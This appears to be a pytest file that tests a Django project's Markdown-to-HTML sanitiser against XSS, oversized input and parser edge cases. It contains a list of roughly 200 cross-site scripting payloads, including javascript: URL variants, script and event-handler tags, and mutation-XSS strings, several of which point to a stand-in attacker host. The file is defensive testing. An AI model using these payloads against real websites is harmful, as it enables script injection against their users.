"""Markdown as HTML that is safe to show (X1, X2, X6)."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest
from django.conf import settings
from markdown_it.parser_inline import _default_terminator_re

from common import markdown
from common.markdown import as_html

_ALLOWED = {
    *("a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "strong"),
    *("h2", "h3", "h4", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
_SCHEMES = ("http://", "https://", "mailto:")


class _Looked(HTMLParser):
    """Every tag and attribute, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def check(html: str) -> None:
    looked = _Looked()
    looked.feed(html)
    for tag, attributes in looked.tags:
        assert tag in _ALLOWED, html
        assert set(attributes) <= {"href", "rel", "start", "align", "tabindex"}, html
        if "href" in attributes:
            assert attributes["href"].lower().startswith(_SCHEMES), html
            assert attributes["rel"] == "noopener noreferrer nofollow ugc"


_SPELLINGS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "//evil.example",
    "/admin/",
    "blob:x",
    "https:evil",
]
_WRAPPERS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][1]\n\n[1]: {}",
    "<{}>",
    '<a href="{}">x</a>',
    '<img src="{}">',
    '[x](https://ok.example "{}")',
]
_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<a href=https://ok.example onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p style=position:fixed>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</pre></div><script>alert(1)</script>",
]
_PLACES = ["{}", "# {}", "- {}", "> {}", "| a |\n|---|\n| {} |", "**{}**", "`{}", "```\n{}"]
VECTORS = [wrapper.format(spelling) for wrapper in _WRAPPERS for spelling in _SPELLINGS] + [
    place.format(tag) for place in _PLACES for tag in _TAGS
]


def test_no_vector_gets_through():
    """X1: 200 of them."""
    assert len(VECTORS) >= 200
    for vector in VECTORS:
        check(as_html(vector))


@pytest.mark.parametrize("tag", _TAGS)
def test_nor_half_of_one(tag):
    """X1: cut off at every character."""
    for end in range(len(tag)):
        check(as_html(f"Text **bold {tag[:end]}"))


def test_no_picture_is_loaded():
    """X2: it becomes a link."""
    html = as_html("![what it is](https://evil.example/?q=secret) ![](https://evil.example/b)")

    assert "<img" not in html
    assert ">what it is</a>" in html
    assert ">https://evil.example/b</a>" in html


def test_markdown_is_rendered():
    html = as_html(
        "# One\n\n## Two\n\nText *with* **weight** and ~~none~~, `code` & <tags>.\n\n"
        "1. first\n2. second\n\n> quoted\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        "```python\nprint('<x>')\n```\n\n[link](https://ok.example/?a=1&b=2)\n\nline\nbreak"
    )

    for part in (
        "<h2>One</h2>",
        "<h3>Two</h3>",
        "<em>with</em>",
        "<strong>weight</strong>",
        "<s>none</s>",
        "<code>code</code>",
        "&amp; &lt;tags&gt;",
        "<ol>",
        "<blockquote>",
        "<th>a</th>",
        '<td align="right">2</td>',
        '<table tabindex="0">',
        '<pre tabindex="0"><code>print',
        "print('&lt;x&gt;')",
        'href="https://ok.example/?a=1&amp;b=2"',
        "<br>",
    ):
        assert re.sub(r"&#x27;|&#39;", "'", html).count(part), part


@pytest.mark.parametrize(
    "mark",
    ["[", "*", ">", "`", "_", "<", "![", "[a](", "- ", "  - ", "&", "&#", "\\", ":", "~", "|"],
)
def test_text_that_is_hard_to_read_stands_as_it_is(mark):
    """X6"""
    text = mark * 100_000

    html = as_html(text)

    check(html)
    assert len(html) < 10 * len(text)


@pytest.mark.parametrize("mark", ["\\", "&", "&#", "&#65;"])
def test_escapes_in_great_number_are_not_looked_at(mark):
    """X6: each would be a token."""
    assert as_html(mark * 20_000).startswith("<pre>")
    assert not as_html(f"{mark}a " * 5_000).startswith("<pre>")


def test_the_parser_stops_wherever_it_has_to(monkeypatch):
    """At fewer signs than the library's, which makes nothing of the rest either."""
    chance = random.Random(7)  # noqa: S311 a test's
    signs = [*"ab 1\n\\`*_~[]()!<>&;#:|-+=\"'{}$%@^./", "http://a.b", "&amp;", "<http://a.b>", "**"]
    texts = ["".join(chance.choices(signs, k=chance.randint(1, 60))) for _ in range(500)]
    ours = [as_html(text) for text in [*VECTORS, *texts]]

    monkeypatch.setattr(markdown._parser.inline, "terminator_re", _default_terminator_re())  # noqa: SLF001

    assert [as_html(text) for text in [*VECTORS, *texts]] == ours


def test_text_that_is_too_long_stands_as_it_is():
    text = "**a** " * settings.MARKDOWN_CHARACTERS

    assert as_html(text).startswith("<pre>**a** ")
